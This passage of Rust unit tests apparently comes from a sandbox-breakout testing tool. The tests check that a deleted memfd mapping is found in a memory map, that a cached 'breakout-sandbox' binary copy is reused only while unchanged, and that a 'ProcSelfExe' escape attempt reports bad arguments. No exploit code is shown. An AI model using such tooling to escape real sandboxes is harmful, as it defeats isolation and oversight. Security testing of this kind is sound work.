        let memfd = "1000-2000 r--p 00000000 00:01 5 /memfd:breakout (deleted)\n";
        assert_eq!(
            mapping_of(memfd, "memfd:breakout", base).as_deref(),
            Some("1000-2000")
        );
        assert_eq!(mapping_of(memfd, "sh", base), None);
    }

    /// A kept copy serves a later attempt while unchanged; one written to is removed.
    #[test]
    fn only_an_unchanged_copy_serves_again() {
        let (_tmp, world) = crate::kit::testing::temp_world();
        let orig_dir = world.scratch_dir("orig").unwrap();
        let original = orig_dir.path().join("breakout-sandbox");
        fs::write(&original, b"runtime").unwrap();
        let kept = |world: &World| {
            let dir = world.scratch_dir("copy").unwrap();
            let bin = dir.path().join("breakout-sandbox");
            fs::copy(&original, &bin).unwrap();
            let made = stamp(&bin).unwrap();
            (dir, bin, made)
        };
        let (dir, bin, made) = kept(&world);
        keep_if_unchanged(IdleCopy {
            dir,
            bin: bin.clone(),
            made,
        });
        let again = idle_copy_of(&original).expect("the unchanged copy");
        assert_eq!(again.bin, bin);
        let (dir, bin, made) = kept(&world);
        fs::OpenOptions::new()
            .append(true)
            .open(&bin)
            .unwrap()
            .write_all(b"marker")
            .unwrap();
        keep_if_unchanged(IdleCopy { dir, bin, made });
        assert!(idle_copy_of(&original).is_none());
    }

    #[test]
    fn bad_arguments_are_reported() {
        let report = ProcSelfExe.attempt(&["exe=/x".into()]);
        assert_eq!(report.steps[0].action, "parse arguments");
        assert!(report.steps[0].data.as_deref().unwrap().contains("nonce"));
    }
}
